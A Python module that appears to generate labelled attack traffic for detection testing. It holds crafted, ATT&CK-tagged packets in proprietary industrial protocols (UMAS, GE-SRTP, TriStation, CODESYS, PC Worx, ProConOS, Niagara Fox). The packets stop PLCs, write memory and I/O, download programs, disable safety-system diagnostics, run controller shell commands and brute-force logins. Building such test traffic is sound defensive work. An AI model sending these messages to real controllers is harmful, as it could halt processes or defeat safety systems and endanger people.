"""Attackers' messages in makers' own protocols: what has been published about each of them.

UMAS, GE-SRTP, TriStation, CODESYS, PC Worx, ProConOS and Niagara Fox have no open standard; the
messages here follow public analyses of them.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from itertools import count

from .makers.wire import C, S
from .speakers import Speaker, each, modbus
from .speakers_standards import ccitt

# UMAS: Modbus function 90, a session's byte, a function of its own

UMAS = Speaker(
    "modbus umas",
    502,
    poll=bytes.fromhex("000100000006010300000002"),
    reply=bytes.fromhex("00010000000701030400070008"),
    attacks=[
        ("project read", "T0888 T0868 T0861", modbus("5a0003 00")),
        ("internals read", "T0888 T0868", modbus("5a0004")),
        ("card read", "T0888", modbus("5a0006 01")),
        ("status read", "T0868 T0888 T0801", modbus("5a0073")),
        ("echo", "T0846 T0888", modbus("5a000a 0041414141")),
        ("link opened", "T0846 T0888 T0871 T0869", modbus("5a0001 00")),
        ("reserved", "T0871 T0858 T0814 T1691 T0830", modbus("5a0010 3b0e000004484f4d45")),
        ("released", "T0871 T0858 T0814 T1691", modbus("5a7711")),
        ("memory read", "T0845 T0802 T0811 T0893 T0801 T0861", modbus("5a0020 010000000000f403")),
        (
            "variables read",
            "T0801 T0861 T0802",
            modbus("5a0022 cd5f1b7a 01 0100 0000 01 0000 0100"),
        ),
        (
            "variables written",
            "T0836 T0831 T1692.001",
            modbus("5a7723 cd5f1b7a 01 0100 0000 01 0000 0100 2a00"),
        ),
        ("registers written", "T0836 T0831 T1692.001 T0835", modbus("5a7725 00 01 00000000 0a00")),
        ("upload", "T0845", modbus("5a7733 0001", "5a7734 0001 0100", "5a7735 0001")),
        (
            "download",
            "T0843 T0889 T0821",
            modbus("5a7730 0001", "5a7731 0001 0100 0400 aabbccdd", "5a7732 0001 0100"),
        ),
        ("stopped", "T0858 T0881", modbus("5a7741 ff00")),
        ("started", "T0858 T0831", modbus("5a7740 ff00")),
        ("monitored", "T0801 T0802 T0861", modbus("5a7750 15 0001 07 0a")),
        ("I/O written", "T0835 T0831 T1692.001 T0836", modbus("5a7771 01 0000 0100 01")),
        (
            "physical memory written",
            "T0836 T0889 T0843 T0821 T0831",
            modbus("5a7729 00000000 0100 ff"),
        ),
        ("kept alive", "T0814 T0871 T1691 T0858", modbus(*["5a7712"] * 12), 0.4),
        (
            "reserved over and over",
            "T0814 T0806 T0871 T1691 T0859",
            modbus(*[f"5a0010 {n:02x}0e000004484f4d45" for n in range(30)]),
            0.05,
        ),
    ],
)


# GE-SRTP: 56 bytes, the service in a mailbox message


def srtp(
    service: int, tail: str = "0000000000", text: str = "", kind: int = 0xC0
) -> Callable[[int], list[bytes]]:
    """A service request; the tail is segment selector, offset, length."""

    def made(unit: int) -> list[bytes]:
        extra = bytes.fromhex(text)
        head = bytearray(56)
        head[0], head[2], head[4] = 2, unit, len(extra)
        head[9] = 2 if extra else 1
        head[17] = 2 if extra else 1
        head[30], head[31] = unit, kind
        head[36:40] = bytes.fromhex("100e0000")
        head[40:42] = b"\1\1"
        head[42] = service
        more = bytes.fromhex(tail)
        head[43 : 43 + len(more)] = more
        if extra:  # a message with text keeps the request further on
            head[42:] = bytes(14)
            head[48:50] = bytes([1, 1])
            head[50] = service
            head[51 : 51 + min(5, len(more))] = more[:5]
        return [bytes(head) + extra]

    return made


SRTP = Speaker(
    "ge-srtp",
    18245,
    opening=[(C, bytes(56)), (S, b"\1" + bytes(55))],
    poll=srtp(0x04, "08000000 0a00")(1)[0],
    reply=b"\3" + bytes(30) + b"\xd4" + bytes(24),
    attacks=[
        ("outputs written", "T0831 T1692.001 T0835 T0836", srtp(0x07, "4800000100ff")),
        ("registers written", "T0836 T0831 T1692.001", srtp(0x07, "0800000100 1234", kind=0xC0)),
        (
            "registers written, long",
            "T0836 T0831 T1692.001",
            srtp(0x07, "0800001000", "1234" * 16, 0x80),
        ),
        ("task memory written", "T0836 T0889 T0821 T0843", srtp(0x08, "0000000100aa")),
        ("program block written", "T0889 T0843 T0821", srtp(0x09, "0000000800", "aa" * 8, 0x80)),
        ("program loaded", "T0843 T0889 T0821", srtp(0x40)),
        ("program stored", "T0845", srtp(0x3F)),
        ("program names read", "T0861 T0888 T0868", srtp(0x03)),
        ("program memory read", "T0845 T0811 T0893", srtp(0x06, "0000001000")),
        ("logged on as programmer", "T0859 T0871 T1694 T0858", srtp(0x20, "0000000000")),
        ("privilege raised", "T0890 T0859 T0858", srtp(0x21, "04ff")),
        ("run", "T0858 T0831", srtp(0x23, "01")),
        ("stopped", "T0858 T0881", srtp(0x23, "02")),
        ("identity changed", "T0836 T0832 T0849", srtp(0x22, "504c4331")),
        ("time set", "T0836 T0832", srtp(0x24, "0120112506")),
        ("time read", "T0888 T0868 T0801", srtp(0x25)),
        ("faults cleared", "T0872 T0878 T0838", srtp(0x39, "01")),
        ("faults read", "T0888 T0801 T0802", srtp(0x38, "01")),
        ("forcing toggled", "T0835 T0831 T1692.001", srtp(0x44, "01")),
        ("type read", "T0888", srtp(0x43)),
        (
            "burst of writes",
            "T0806",
            lambda u: [srtp(0x07, f"0800000100{n:02x}")(u)[0] for n in range(80)],
            0.005,
        ),
    ],
)


# TriStation over UDP


def crc16(data: bytes) -> int:
    value = 0
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ 0xA001 if value & 1 else value >> 1
    return value


def tristation(command: int, body: str = "", kind: int = 5) -> Callable[[int], list[bytes]]:
    def made(unit: int) -> list[bytes]:
        data = bytes.fromhex(body)
        inner = b""
        if kind == 5:
            size = len(data) + 10
            check = sum(data) + unit + command + size & 0xFFFF
            inner = struct.pack("<BBBBHHH", 0, unit, command, 0, 0, check, size) + data
        head = struct.pack("<HH", kind, len(inner))
        return [head + inner + struct.pack("<H", crc16(head + inner))]

    return made


TRISTATION = Speaker(
    "tristation",
    1502,
    datagrams=True,
    attacks=[
        ("connected", "T0846 T0869 T0888 T0871 T0886", tristation(0, kind=1)),
        ("pinged", "T0846", tristation(0, kind=6)),
        ("status read", "T0868 T0888", tristation(0x13)),
        ("chassis read", "T0888", tristation(0x18)),
        ("modules' versions read", "T0888", tristation(0x36)),
        ("program uploaded", "T0845", tristation(0x41, "01000000000000000000")),
        ("function uploaded", "T0845", tristation(0x42, "0100000000000000")),
        ("download of everything", "T0843 T0889", tristation(0x00, "02")),
        ("download of a change", "T0843 T0889", tristation(0x01, "4155544f00000000")),
        ("program allocated", "T0843 T0889 T0821", tristation(0x37, "01000400" + "00" * 40)),
        ("function allocated", "T0843 T0889 T0821", tristation(0x38, "02000400" + "41" * 40)),
        ("download ended", "T0843 T0889", tristation(0x0B)),
        ("run", "T0858", tristation(0x14, "00000000")),
        ("halted", "T0858 T0881 T0880", tristation(0x15)),
        ("paused", "T0858 T0881 T0880", tristation(0x16)),
        ("one scan", "T0858 T0831", tristation(0x17)),
        ("points forced", "T0835 T0831 T1692.001 T0836", tristation(0x10, "010001000000803f")),
        ("I/O set", "T0835 T0831 T1692.001 T0836", tristation(0x1B, "0100010001")),
        ("output voter diagnosis off", "T0878 T0880 T0837 T0838 T0836", tristation(0x28)),
        ("alarms cleared", "T0878 T0872 T0838", tristation(0x20, "01")),
        ("clock set", "T0836 T0832", tristation(0x07, "e9070b18060000000000")),
        ("scan time set", "T0836", tristation(0x09, "c8000000")),
        ("memory cleared", "T0809 T0836", tristation(0x39)),
        ("module configured", "T0836 T0889", tristation(0x0F, "0102030405060708")),
        ("node number set", "T0836 T1691 T0814", tristation(0x1A, "07")),
        ("symbols read", "T0861", tristation(0x4A, "0000")),
        ("events read", "T0888 T0801 T0802", tristation(0x21, "0000")),
    ],
)


# CODESYS V3: block driver on TCP 11740 or datagrams on UDP 1740, channels, services


def service(group: int, number: int, body: str = "") -> Callable[[int], bytes]:
    """The application layer in a channel's block."""

    def made(unit: int) -> bytes:
        data = bytes.fromhex(body)
        head = (0xCD55, 16, group, number, 0x11 * unit, len(data), 0)
        layer = struct.pack("<HHHHIII", *head) + data
        check = struct.pack("<I", 0x1234 * unit)
        block = struct.pack("<BBHIII", 1, 0x81, 0x0B00 + unit, 3, 2, len(layer)) + check + layer
        return datagram(0x40, block, unit)

    return made


def datagram(kind: int, body: bytes, unit: int) -> bytes:
    """Router header: magic, hops, priorities, service, number, lengths of the addresses, these."""
    addresses = bytes([0x0A, unit, 0x2D, 0xDC, 0, unit, 0, 9, 0, 0, 0x2D, 0xDD, 0, 0, 0x70, unit])
    return bytes([0xC5, 0x73, 0x40, kind, 0x00, 0x53]) + addresses + bytes(2) + body


def tcp3(message: bytes) -> bytes:
    return bytes.fromhex("000117e8") + struct.pack("<I", 8 + len(message)) + message


def v3(*many: Callable[[int], bytes]) -> Callable[[int], list[bytes]]:
    return lambda unit: [tcp3(one(unit)) for one in many]


def v3udp(*many: Callable[[int], bytes]) -> Callable[[int], list[bytes]]:
    return lambda unit: [one(unit) for one in many]


def channel(kind: int, body: str) -> Callable[[int], bytes]:
    return lambda unit: datagram(0x40, bytes([kind, 0]) + bytes.fromhex(body), unit)


DEVICE, APPLICATION, FILES, VARIABLES, SHELL, MONITOR = 1, 2, 8, 9, 0x11, 0x1B
CODESYS_ATTACKS = [
    ("target asked", "T0888", [service(DEVICE, 1)]),
    ("logged in", "T0859 T1694 T0806 T0812", [service(DEVICE, 2, "22 84 80 00 01 00 00 00")]),
    (
        "program started",
        "T0858 T0831",
        [service(APPLICATION, 0x10, "8101 8800 1184 8000 01000000")],
    ),
    (
        "program stopped",
        "T0858 T0881",
        [service(APPLICATION, 0x11, "8101 8800 1184 8000 01000000")],
    ),
    (
        "program reset",
        "T0858 T0816 T0809",
        [service(APPLICATION, 0x12, "8101 8800 1184 8000 01000000")],
    ),
    ("reset to origin", "T0809 T0816 T0889", [service(DEVICE, 4)]),
    ("downloaded", "T0843 T0889 T0821", [service(APPLICATION, 5, "0102 0304 0506")]),
    ("changed online", "T0843 T0889 T0821", [service(APPLICATION, 6, "0102 0304")]),
    ("application deleted", "T0809 T0889", [service(APPLICATION, 4, "0102")]),
    ("application created", "T0843 T0889 T0821", [service(APPLICATION, 3, "0102")]),
    ("boot project made", "T0889 T0843 T0839", [service(APPLICATION, 0x23, "0102")]),
    ("breakpoint set", "T0858 T0881 T0814 T0821 T0831", [service(APPLICATION, 0x13, "0102")]),
    ("applications listed", "T0888 T0861 T0868", [service(APPLICATION, 0x18)]),
    ("file sent", "T0843 T0867 T0889 T1693", [service(FILES, 2, "0108 50726f6a2e617070")]),
    ("file deleted", "T0809 T0872", [service(FILES, 0x0E, "0108 50726f6a2e617070")]),
    ("files listed", "T0888 T0861 T0893 T0845", [service(FILES, 0x0C, "0101 2f00")]),
    ("shell command", "T0807 T0871 T0888 T0858 T0823", [service(SHELL, 1, "1108 706964 00")]),
]
CODESYS3 = Speaker(
    "codesys v3",
    11740,
    opening=[
        (C, tcp3(channel(0xC3, "0165 0a000000 00100000 05000000")(1))),
        (S, tcp3(channel(0x83, "0165 00000a0b 00100000 05000000")(1))),
    ],
    poll=tcp3(service(MONITOR, 1, "0102 0304 0506")(1)),
    reply=tcp3(channel(2, "0b01 02000000")(1)),
    attacks=[(name, techniques, v3(*said)) for name, techniques, said in CODESYS_ATTACKS],
)
CODESYS3_UDP = Speaker(
    "codesys v3 udp",
    1740,
    datagrams=True,
    poll=service(MONITOR, 1, "0102 0304 0506")(1),
    reply=channel(2, "0b01 02000000")(1),
    attacks=[
        *[(name, techniques, v3udp(*said)) for name, techniques, said in CODESYS_ATTACKS],
        (
            "devices sought",
            "T0846 T0888",
            lambda u: [datagram(3, bytes.fromhex("02c20004") + struct.pack("<I", 0x0BAD00 + u), u)],
        ),
    ],
)


# CODESYS V2: bbbb, length, service


def v2(*bodies: str) -> Callable[[int], list[bytes]]:
    """Each in the order of bytes of an Intel runtime."""
    return lambda unit: [
        b"\xbb\xbb" + struct.pack("<I", len(b)) + b for b in map(bytes.fromhex, bodies)
    ]


def shell(line: str, wrapped: bool = True) -> Callable[[int], list[bytes]]:
    """A line for the controller's browser, after the opening; tools send it in either frame."""
    asked = bytes.fromhex("9200000000") + line.encode() + b"\0"
    size = struct.pack("<H", len(asked))
    if wrapped:
        outer = b"\xcc\xcc\1\0" + size + bytes(10) + b"\1\0\0\0"
        return lambda _: [b"\xbb\xbb\1\0\0\0\1", outer + b"\x23" + size + b"\0" + asked]
    return lambda _: [
        bytes.fromhex("bbbb00000009427d49b61800005d28"),
        b"\xbb\xbb" + struct.pack(">I", len(asked)) + asked,
    ]


SHELL_LINES = [
    ("help", "T0807 T0888 T0871", "?"),
    ("stopped", "T0858 T0881", "stopprg"),
    ("started", "T0858 T0831", "startprg"),
    ("reset to origin", "T0809 T0816", "resetprgorg"),
    ("files listed", "T0888 T0861 T0893", "filedir"),
    ("file deleted", "T0809 T0872", "filedelete DEFAULT.PRG"),
    ("password set", "T0892", "setpwd xyz"),
    ("memory dumped", "T0893 T0811 T0845 T0834", "memd 0"),
]
CODESYS2 = Speaker(
    "codesys v2",
    2455,
    reply=bytes.fromhex("cccc0100080000000000000000000000040000002306000000000000"),
    attacks=[
        ("system asked", "T0888 T0846", v2("01")),
        ("system asked, other order", "T0888 T0846", lambda _: each("bbbb00000001 01")),
        *[(f"shell: {name}", fits, shell(line)) for name, fits, line in SHELL_LINES],
        *[
            (f"shell, short frame: {name}", fits, shell(line, False))
            for name, fits, line in SHELL_LINES
        ],
    ],
)


# PC Worx: 1962 to ask, 41100 to control; ProConOS: 20547

PCWORX = Speaker(
    "pcworx",
    1962,
    reply=bytes.fromhex("81010014000000010000000000020000004c0000"),
    attacks=[
        (
            "session opened, identity read",
            "T0888 T0846",
            lambda u: [
                bytes.fromhex("0101001a0000000078800003000c") + b"IBETH01N0_M\0",
                bytes.fromhex(f"01050016000100007880 00{u:02x}00000006000402950000"),
                bytes.fromhex(f"0106000e00020000000000{u:02x}0400"),
            ],
        ),
        (
            "session opened by another client",
            "T0888 T0846",
            lambda _: [bytes.fromhex("0101001a005e000000000003000c") + b"IBETH01N0_M\0"],
        ),
    ],
)
REMOTING = (
    bytes.fromhex("0100000000002f00000000000000cfff")
    + b"Ade.Remoting.Services.IProConOSControlService2\0"
)
PCWORX_CONTROL = Speaker(
    "pcworx control",
    41100,
    opening=[(C, REMOTING), (S, bytes.fromhex("0100000000000800") + bytes(12))],
    poll=bytes.fromhex("010002000000080003000300000000000200000002400b40"),
    reply=bytes.fromhex("0100020000001e00") + bytes(30),
    attacks=[
        ("stopped", "T0858 T0881", lambda _: each("01000200000000000100070000000000")),
        ("cold start", "T0858 T0816", lambda _: each("010002000000020001000600000000000100")),
        ("warm start", "T0858 T0816", lambda _: each("010002000000020001000600000000000200")),
        ("hot start", "T0858 T0816", lambda _: each("010002000000020001000600000000000300")),
    ],
)


def proconos(function: int, number: int) -> bytes:
    """A short frame; its last two bytes are a checksum, here of another polynomial."""
    body = bytes([0xCC, 1, 0, function, 0x40, number, 0, 0])
    return body + ccitt(body)


PROCONOS = Speaker(
    "proconos",
    20547,
    poll=bytes.fromhex("cc01000f40070000eafa"),
    reply=bytes.fromhex("cc01000f4007000000010003") + bytes(14),
    attacks=[
        ("identity read", "T0888", lambda _: each("cc01000b4002000047ee")),
        ("stopped", "T0858 T0881", lambda _: each("cc010001400e00004c07")),
        ("started", "T0858 T0816", lambda _: each("cc010004400e00001821")),
        ("stopped, another number", "T0858 T0881", lambda u: [proconos(1, 0x20 + u)]),
        ("started, another number", "T0858 T0816", lambda u: [proconos(4, 0x20 + u)]),
    ],
)


# Niagara Fox


def fox(*texts: str) -> Callable[[int], list[bytes]]:
    """Frames: kind, numbers, channel and command, then what is in braces."""

    def made(unit: int) -> list[bytes]:
        said = []
        for number, text in zip(count(unit), texts):
            head, _, body = text.partition("|")
            lines = "".join(f"{line}\n" for line in body.split(",") if line)
            said.append(f"fox a {number} -1 {head}\n{{\n{lines}}};;\n".encode())
        return said

    return made


HELLO = (
    "fox hello|fox.version=s:1.0.1,id=i:1,hostName=s:laptop,hostAddress=s:10.1.1.1,"
    "app.name=s:Workbench,app.version=s:3.8.41,vm.name=s:Java HotSpot(TM) Client VM,"
    "os.name=s:Windows 7,lang=s:en,timeZone=s:Europe/Berlin"
)
FOX = Speaker(
    "fox",
    1911,
    reply=b"fox a 0 -1 fox hello\n{\nfox.version=s:1.0\nid=i:0\nstation.name=s:hvac\n};;\n",
    attacks=[
        ("greeted", "T0888 T0846", fox(HELLO)),
        (
            "logged in",
            "T0859 T1694 T0812",
            fox(
                HELLO,
                "fox authenticate|scope=s:station,username=s:admin,"
                "password=s:YWRtaW4=,authAgentTypeSpecs=s:fox:FoxBasic",
            ),
        ),
        (
            "passwords tried",
            "T0859 T0806 T0812 T1694",
            fox(
                HELLO,
                *[
                    f"fox authenticate|scope=s:station,username=s:admin,password=s:{n}"
                    for n in range(12)
                ],
            ),
            0.05,
        ),
        (
            "point set",
            "T0831 T0836 T1692.001",
            fox(HELLO, "station invoke|ord=s:slot:/Drivers/AHU1/SaTemp,action=s:set,value=s:31.5"),
        ),
        ("station stopped", "T0881 T0816 T0858", fox(HELLO, "station stop|reason=s:maintenance")),
        ("host restarted", "T0816", fox(HELLO, "sys reboot|now=b:true")),
        (
            "file read",
            "T0893 T0811 T0845 T0882 T0802",
            fox(HELLO, "file get|path=s:/stations/hvac/config.bog"),
        ),
        (
            "file written",
            "T0867 T0843 T0889 T0836",
            fox(HELLO, "file put|path=s:/stations/hvac/config.bog,size=i:400"),
        ),
        ("alarm acknowledged", "T0878 T0838", fox(HELLO, "alarm ackAlarm|uuid=s:7f-3b")),
    ],
)

ALL = (
    UMAS,
    SRTP,
    TRISTATION,
    CODESYS3,
    CODESYS3_UDP,
    CODESYS2,
    PCWORX,
    PCWORX_CONTROL,
    PROCONOS,
    FOX,
)
